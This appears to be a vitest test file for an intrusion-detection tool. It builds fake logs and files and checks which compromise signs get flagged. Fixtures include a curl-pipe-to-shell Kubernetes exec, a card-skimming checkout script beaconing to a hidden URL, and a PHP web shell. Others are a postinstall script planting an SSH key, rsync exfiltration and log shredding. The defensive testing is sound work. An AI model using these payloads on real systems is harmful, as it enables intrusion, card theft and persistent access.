/** What six more hosts that were broken into and four clean ones taught, and beside each what ordinary hosts have in the same place. */
import { describe, expect, it } from 'vitest';
import type { IntrusionSheet } from '../../../src/logs/intrusion/types.ts';
import { sheetOf } from './sheet-of.ts';

const STRANGER = '203.0.113.77';
const judged = (sheet: IntrusionSheet): string[] =>
  sheet.persistence.filter(({ unjudged }) => !unjudged).map(({ kind, why }) => `${kind}: ${why}`);
const named = (sheet: IntrusionSheet): string[] => sheet.indicators.map(({ value }) => value);

describe('the audit log of a Kubernetes API server', () => {
  const event = (minute: number, user: string, address: string, more: object): string =>
    JSON.stringify({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'RequestResponse',
      stage: 'ResponseComplete',
      requestURI: '/api/v1/namespaces/shop/pods',
      verb: 'list',
      user: { username: user, groups: ['system:authenticated'] },
      sourceIPs: [address],
      userAgent: 'kubectl/v1.29.0',
      objectRef: { resource: 'pods', namespace: 'shop', apiVersion: 'v1' },
      responseStatus: { code: 200 },
      requestReceivedTimestamp: `2026-08-02T07:${String(minute).padStart(2, '0')}:00.120000Z`,
      stageTimestamp: `2026-08-02T07:${String(minute).padStart(2, '0')}:00.140000Z`,
      ...more,
    });
  const DASHBOARD = 'system:serviceaccount:kube-system:dashboard';
  const usual = Array.from({ length: 20 }, (_, i) => event(i, 'system:serviceaccount:shop:payments', '10.0.1.7', {}));
  const exec = {
    verb: 'create',
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'payments-7d9f' },
    requestURI: `/api/v1/namespaces/shop/pods/payments-7d9f/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F${STRANGER}%2Fx.sh%7Csh&container=app`,
    responseStatus: { code: 101 },
  };
  const privileged = {
    verb: 'create',
    objectRef: { resource: 'pods', namespace: 'kube-system', name: 'helper' },
    requestObject: { spec: { hostPID: true, containers: [{ securityContext: { privileged: true } }] } },
    responseStatus: { code: 201 },
  };

  it('tells who used the token of a program from the internet, and for what', async () => {
    const sheet = await sheetOf({
      'audit.log': [
        ...usual,
        event(30, DASHBOARD, STRANGER, {}),
        event(31, DASHBOARD, STRANGER, exec),
        event(32, DASHBOARD, STRANGER, privileged),
      ].join('\n'),
    });
    expect(sheet.attackers.map(({ address }) => address)).toEqual([STRANGER]);
    expect(sheet.entry).toMatchObject({ time: Date.UTC(2026, 7, 2, 7, 30, 0, 120) });
    expect(sheet.entry?.how).toContain('with the token of kube-system:dashboard');
    expect(judged(sheet)).toEqual([
      expect.stringContaining('runs a command in a container: sh -c curl'),
      expect.stringContaining('starts a container that may take over its host'),
    ]);
    expect(named(sheet)).toContain(`http://${STRANGER}/x.sh`);
  });
  it('names without judging what operators do, and accuses nobody of it', async () => {
    const plain = { ...exec, requestURI: '/api/v1/namespaces/shop/pods/payments-7d9f/exec?command=sh' };
    const sheet = await sheetOf({
      'audit.log': [
        ...usual,
        event(30, 'ana@shop.example', '192.0.2.14', plain),
        event(31, 'system:serviceaccount:kube-system:daemon-set-controller', '10.0.0.2', privileged),
      ].join('\n'),
    });
    expect(judged(sheet)).toEqual([]);
    expect(sheet.persistence).toHaveLength(2);
    expect([sheet.attackers, sheet.entry]).toEqual([[], undefined]);
  });
  it('does not take a refused stranger for one who got in', async () => {
    const refused = event(30, 'system:anonymous', STRANGER, { responseStatus: { code: 403 } });
    const sheet = await sheetOf({ 'audit.log': [...usual, refused].join('\n') });
    expect([sheet.attackers, sheet.entry]).toEqual([[], undefined]);
  });
});

describe('a person who mistypes', () => {
  const line = (day: number, second: number, words: string, address: string): string =>
    `2026-05-${String(day).padStart(2, '0')}T08:00:${String(second).padStart(2, '0')}.000000+00:00 pay1 sshd[${day * 100 + second}]: ${words} password for ana from ${address} port 51000 ssh2`;
  const tries = (address: string): string[] => [
    ...Array.from({ length: 8 }, (_, i) => line(20, i * 5, 'Failed', address)),
    line(20, 50, 'Accepted', address),
  ];
  const days = (address: string): string[] => Array.from({ length: 12 }, (_, i) => line(i + 1, 1, 'Accepted', address));

  it('at the address from which the account comes every day did not guess', async () => {
    const sheet = await sheetOf({ 'auth.log': [...days('192.0.2.14'), ...tries('192.0.2.14')].join('\n') });
    expect(sheet.bruteForce).toMatchObject([{ tries: 8, people: 1 }]);
    expect([sheet.attackers, sheet.entry]).toEqual([[], undefined]);
  });
  it('is not who tries the account from where it never came', async () => {
    const sheet = await sheetOf({ 'auth.log': [...days('192.0.2.14'), ...tries(STRANGER)].join('\n') });
    expect(sheet.entry?.how).toBe(`guessed password of ana over ssh from ${STRANGER}`);
  });
});

it('a key that a backup hands to scp is not run, and a hidden script beside it is', async () => {
  const cron = (command: string) => sheetOf({ 'etc/cron.d/backup': `15 2 * * * backup ${command}\n` });
  expect(
    judged(await cron('/usr/bin/scp -q -i /home/backup/.ssh/id_ed25519 /backup/db.tgz store@10.0.9.4:/srv/')),
  ).toEqual([]);
  expect(
    judged(
      await cron(
        '/usr/bin/scp -i /home/backup/.ssh/key /backup/db.tgz store@10.0.9.4:/srv/ && /home/backup/.cache-d/run',
      ),
    ),
  ).toHaveLength(1);
});

describe('a script file of a shop', () => {
  const sends = (address: string): string =>
    `jQuery(function($){$('form').on('change','input',function(){$(document.body).trigger('update')})});\n(function(){var q=${address};document.addEventListener('submit',function(e){var o={};e.target.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});if(o['card-number'])navigator.sendBeacon(q,JSON.stringify(o))},true)})();\n`;
  it('that sends card fields to an address in base64 is told with the address', async () => {
    const hidden = Buffer.from('https://stat.example/bar.js').toString('base64');
    const sheet = await sheetOf({ 'html/js/checkout.js': sends(`atob('${hidden}')`) });
    expect(judged(sheet)).toEqual([expect.stringContaining('https://stat.example/bar.js')]);
    expect(named(sheet)).toContain('https://stat.example/bar.js');
  });
  it.each([
    ['that sends them to its provider in plain words', sends("'https://js.provider.example/tokens'")],
    [
      'with an image in base64 and no card',
      `var logo='${Buffer.from('https://cdn.example/logo.png').toString('base64')}';document.querySelector('img').src=atob(logo);\n`,
    ],
  ])('%s is not', async (_, script) => {
    expect(judged(await sheetOf({ 'html/js/checkout.js': script }))).toEqual([]);
  });
});

it('makes a function of what the request sends: a shell; of its own text: none', async () => {
  const shells = async (body: string) =>
    (await sheetOf({ 'html/cache.php': `<?php\n$f = create_function('', ${body});\n$f();\n` })).webShells;
  expect(await shells("base64_decode($_POST['d'])")).toMatchObject([{ family: 'one-liner' }]);
  expect(await shells("'return strtoupper($x);'")).toEqual([]);
});

it('an install script that lets a key in is told, and one that writes its own settings is not', async () => {
  const installs = (script: string) =>
    sheetOf({
      'srv/node_modules/left/package.json': JSON.stringify({
        name: 'left',
        version: '1.0.0',
        scripts: { postinstall: 'node ./setup.js' },
      }),
      'srv/node_modules/left/setup.js': script,
    });
  const sheet = await installs(
    "const fs=require('fs');fs.appendFileSync(require('os').homedir()+'/.ssh/authorized_keys','ssh-ed25519 AAAA x\\n');require('https').get('https://pkg-telemetry.example/i');\n",
  );
  expect(judged(sheet)).toEqual([
    'package-script: the postinstall script of the package left writes to authorized_keys',
  ]);
  expect(named(sheet)).toContainEqual(expect.stringContaining('pkg-telemetry.example'));
  expect(judged(await installs("require('fs').writeFileSync(__dirname + '/config.json', '{}');\n"))).toEqual([]);
});

describe('what was taken', () => {
  const request = (second: number, client: string, line: string, status: number, bytes: number): string =>
    `${client} - - [20/Jun/2026:01:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000] "${line} HTTP/1.1" ${status} ${bytes} "-" "Mozilla/5.0"`;
  const log = (others: number): string =>
    [
      ...Array.from({ length: 60 }, (_, i) => request(i, `198.51.100.${i}`, 'GET /', 200, 8000 + i)),
      request(60, '198.51.100.9', 'GET /catalogue.zip', 200, others),
      ...Array.from({ length: 60 }, (_, i) => request(100 + i, STRANGER, 'POST /tools/adminer.php', 403, 4300)),
      request(170, STRANGER, 'POST /tools/adminer.php', 302, 0),
      request(200, STRANGER, 'POST /tools/adminer.php', 200, 488_112_233),
    ].join('\n');
  it('is the answer to an intruder that nobody else got the like of', async () => {
    const sheet = await sheetOf({ 'access.log': log(90_000) });
    expect(sheet.timeline.map(({ what }) => what)).toContain(
      `${STRANGER} took 488 MB in one answer (POST /tools/adminer.php)`,
    );
  });
  it('is not said where everybody gets such answers', async () => {
    const sheet = await sheetOf({ 'access.log': log(300_000_000) });
    expect(sheet.timeline.map(({ what }) => what).join()).not.toContain(' took ');
  });
});

describe('a stack of Java', () => {
  const stack = (frame: string): string =>
    `2026-09-14 03:01:09,112 ERROR [http-nio-8080-exec-4] c.s.Portal - request failed\njava.lang.ClassCastException: java.util.HashSet cannot be cast\n\tat ${frame}\n\tat java.io.ObjectInputStream.readObject(ObjectInputStream.java:431)\n2026-09-14 03:02:00,000 INFO [main] c.s.Portal - alive\n`;
  it('in which an object ran what it was told is a way in', async () => {
    const { entry } = await sheetOf({
      'app.log': stack(
        'org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:125)',
      ),
    });
    expect(entry?.how).toContain('InvokerTransformer');
  });
  it('in which an object could not be read is none', async () => {
    expect(
      (await sheetOf({ 'app.log': stack('java.util.HashMap.readObject(HashMap.java:1412)') })).entry,
    ).toBeUndefined();
  });
});

describe('commands that sudo logs', () => {
  const sudo = async (...commands: string[]): Promise<string[]> =>
    judged(
      await sheetOf({
        'var/log/secure': commands
          .map(
            (command, i) =>
              `Feb 14 22:4${i}:10 db1 sudo[901${i}]:       bo : TTY=pts/0 ; PWD=/home/bo ; USER=root ; COMMAND=${command}`,
          )
          .join('\n'),
      }),
    );
  it('tell as those of a history do', async () => {
    expect(
      await sudo(
        '/bin/rsync -az /var/tmp/.x.sql up@203.0.113.150:/data/',
        '/bin/shred -u /var/log/wtmp',
        '/bin/chattr +i /home/svc/.ssh/authorized_keys',
      ),
    ).toEqual([
      'history: sends a hidden file to a bare address',
      'history: hides its traces',
      'history: makes itself hard to remove',
    ]);
  });
  it('of ordinary days tell nothing', async () => {
    expect(
      await sudo(
        '/bin/chattr +i /etc/resolv.conf',
        '/usr/bin/rsync -a /srv/backup/ store@203.0.113.150:/data/',
        '/usr/sbin/useradd -m carla',
        '/bin/systemctl restart nginx',
      ),
    ).toEqual([]);
  });
});

it('a test of load that is let in as often as it is refused guesses nothing', async () => {
  const log = Array.from({ length: 300 }, (_, i) => {
    const [status, bytes] = i % 2 ? [302, 120] : [200, 8120];
    return `10.0.3.4 - - [09/Mar/2026:13:0${Math.floor(i / 60)}:${String(i % 60).padStart(2, '0')} +0000] "POST /login HTTP/1.1" ${status} ${bytes} "-" "k6/0.49.0 (https://k6.io/)"`;
  }).join('\n');
  expect((await sheetOf({ 'access.log': log })).bruteForce).toEqual([]);
});
